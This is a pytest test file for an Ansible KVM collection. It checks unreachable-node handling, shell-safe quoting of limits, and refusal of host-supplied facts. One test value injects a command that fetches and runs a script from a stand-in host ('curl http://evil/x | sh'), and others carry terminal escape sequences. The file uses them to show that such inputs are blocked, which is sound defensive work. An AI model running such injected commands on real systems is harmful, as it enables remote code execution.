# Copyright: (c) 2026, realtime.kvm contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""One of three nodes does not answer: by default no node is changed and the line to type is said; on request the others go on."""

from __future__ import annotations

import shlex

import pytest


def made(calls):
    return [call["module"] for call in calls if not call["check"] and call.get("state") != "recovered"]


@pytest.mark.parametrize("playbook", ["site", "guests", "undo", "partition", "openstack", "update"])
def test_no_node_is_changed_and_the_line_to_type_is_said(nodes, playbook):
    code, said, calls = nodes.run(f"realtime.kvm.{playbook}", {}, down=["node3"], cpu_partition_isolation="runtime")
    assert code != 0
    assert (
        "Nothing was changed on any node. Cannot be reached: node3. Repair that, or leave them out (--limit '!node3'), "
        "or set realtime_unreachable: skip"
    ) in said
    assert calls, "the others were looked at"
    assert made(calls) == []


def test_on_request_the_others_go_on_and_the_recap_says_so(nodes):
    arguments = ("-e", "realtime_unreachable=skip", "--tags", "always,cpu_partition,rt_guest,recap")
    code, said, calls = nodes.run("realtime.kvm.site", {"cpu_partition": "none"}, *arguments, down=["node3"])
    assert code == 4, "Ansible's own code for a node that could not be reached"
    assert made(calls).count("cpu_partition") == 2
    assert made(calls).count("rt_domain") == 2
    assert "== Result == node1, node2: done node3: skipped, since it cannot be reached; it is as it was" in said
    assert said.count("UNREACHABLE!") == 1, "it is asked once"


@pytest.mark.parametrize(
    ("limit", "others"),
    [("node1,node3,node4", "node1,node3,node4,!node3,!node4"), ("node1:node3:node4", "node1:node3:node4:!node3:!node4")],
)
def test_a_limit_is_kept_in_the_line_to_type(nodes, limit, others):
    """Ansible takes no colon as a separator beside a comma: such a limit would match no host."""
    _code, said, _calls = nodes.run("realtime.kvm.plan", {}, "--limit", limit, down=["node3", "node4"])
    assert f"Cannot be reached: node3, node4. Repair that, or leave them out (--limit '{others}')" in said


def test_the_line_to_type_is_one_that_a_shell_takes(nodes):
    _code, said, _calls = nodes.run("realtime.kvm.plan", {}, down=["kvm 03", "kvm's"])
    line = said.partition("leave them out (--limit ")[2].partition("), or set")[0]
    assert shlex.split(line) == ["!kvm 03,!kvm's"]


@pytest.mark.parametrize("name", ["realtime_guests", "realtime_networks"])
def test_a_list_that_is_none_is_refused_by_its_name(nodes, name):
    code, said, calls = nodes.run("realtime.kvm.plan", {}, **{name: {"name": "plc1"}})
    assert code != 0
    assert made(calls) == []
    assert f"{name} is no list; give a list, [] for none, or leave it out" in said


def test_a_node_that_is_refused_stops_all_and_both_are_named(nodes):
    wrong = "{{ 'sideways' if inventory_hostname == 'node2' else 'single' }}"
    arguments = ("-e", "realtime_unreachable=skip")
    code, said, calls = nodes.run("realtime.kvm.plan", {}, *arguments, down=["node3"], cpu_partition_smt=wrong)
    assert code != 0
    assert "Nothing was changed on any node. Refused, see the plan above: node2." in said
    assert "node3: it cannot be reached, and nothing was planned" in said
    assert made(calls) == []


def test_a_refusal_and_a_node_that_is_lost_are_both_named(nodes):
    wrong = "{{ 'sideways' if inventory_hostname == 'node2' else 'single' }}"
    code, said, calls = nodes.run("realtime.kvm.plan", {}, down=["node3"], cpu_partition_smt=wrong)
    assert code != 0
    assert "Nothing was changed on any node. Refused: node2 (Validation of arguments failed: " in said
    assert "value of cpu_partition_smt must be one of: together, single, got: sideways). Cannot be reached: node3." in said
    assert made(calls) == []


def test_another_word_is_refused(nodes):
    code, said, calls = nodes.run("realtime.kvm.guests", {}, realtime_unreachable="{{ 'ignore' }}")
    assert code != 0
    assert "realtime_unreachable: 'ignore' is neither refuse nor skip. Nothing was changed on any node." in said
    assert made(calls) == []


def test_an_empty_word_is_the_default(nodes):
    code, said, _calls = nodes.run("realtime.kvm.guests", {}, realtime_unreachable="")
    assert code == 0, said


REFUSED = (
    "which Ansible takes for variables, so a node would decide what this playbook does and says. Nothing was changed on any node."
)


@pytest.mark.parametrize(
    ("playbook", "name", "value", "shown"),
    [
        ("guests", "realtime_unreachable", "skip", "realtime_unreachable"),
        ("plan", "ansible_limit", "x'; curl http://evil/x | sh; echo '", "limit"),
        ("undo", "inventory_hostname", "node2\x1b]0;owned\x07", "inventory_hostname"),
        ("partition", "ansible_facts", {}, "facts"),
        ("update", "needs", [], "needs"),
    ],
)
def test_no_node_decides_for_the_others(nodes, playbook, name, value, shown):
    first = ("kvm_host", "cpu_partition", "rt_domain", "package_update")
    hostile = {"results": {module: {"ansible_facts": {name: value, "realtime_x\x1b": 1}} for module in first}}
    variables = {"realtime_unreachable": "refuse", "cpu_partition_isolation": "runtime"}
    code, said, calls = nodes.run(f"realtime.kvm.{playbook}", hostile, down=["node3"], **variables)
    assert code != 0
    assert made(calls) == []
    both = sorted([shown, "realtime_x\\\\x1b"])
    assert f"facts: node1 answered {', '.join(both)}; node2 answered {', '.join(both)}, {REFUSED}" in said
    assert "evil" not in said
    assert "owned" not in said
    assert "\x1b" not in said


def test_a_node_that_answers_another_name_only_after_the_first_look_is_refused_as_well(nodes):
    hostile = {"kvm_host": "reboot", "results": {"ovs_dpdk": {"ansible_facts": {"inventory_hostname": "n\x1b]0;owned\x07"}}}}
    code, said, calls = nodes.run("realtime.kvm.guests", hostile, realtime_max_disruption="none", realtime_networks=[])
    assert code != 0
    assert made(calls) == []
    assert f"facts: node1 answered inventory_hostname; node2 answered inventory_hostname, {REFUSED}" in said
    assert "\x1b" not in said


def test_facts_of_the_machine_and_local_facts_are_no_variables_of_this_collection(nodes):
    facts = {
        "ansible_local": {"realtime_kvm_partition": {}},
        "ansible_distribution": "Debian",
        "ansible_ens1": {},
        "packages": {},
        "services": {},
    }
    answers = {"kvm_host": "none", "results": {"kvm_host": {"ansible_facts": facts}}}
    code, said, calls = nodes.run("realtime.kvm.guests", answers)
    assert code == 0, said
    assert made(calls)
